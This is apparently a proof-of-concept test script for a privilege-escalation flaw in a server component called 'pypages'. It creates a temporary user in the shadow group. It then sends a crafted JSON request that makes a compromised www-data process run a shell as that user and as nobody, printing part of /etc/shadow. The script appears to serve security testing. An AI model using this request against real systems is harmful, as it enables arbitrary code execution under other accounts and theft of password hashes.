#!/bin/sh
# R1: a compromised server child (www-data) runs code of its choice as ANY account with
# uid >= UID_MIN (here a fresh user that owns no page at all), with that account's
# supplementary groups, system ones included (here shadow: /etc/shadow is read), and
# as nobody (65534, above UID_MAX, a system account by convention). Run as root.
set -eu
here=$(cd "$(dirname "$0")" && pwd)
name=pprv$$
useradd --no-create-home --shell /usr/sbin/nologin --user-group -G shadow "$name"
trap 'userdel "$name" 2>/dev/null || true; rm -f "$req"' EXIT
uid=$(id -u "$name"); gid=$(id -g "$name")
req=$(mktemp /tmp/rv-req-XXXXXX)
cat >"$req" <<J
[{"pypages":"start","id":1,"python":"/bin/sh","args":["-c","id; head -c 40 /etc/shadow; echo"],"cwd":"/","env":{},"user":{"uid":$uid,"gid":$gid}},
 {"pypages":"start","id":2,"python":"/bin/sh","args":["-c","id"],"cwd":"/","env":{},"user":{"uid":65534,"gid":65534}}]
J
"$here/run-hostile.sh" "$req"
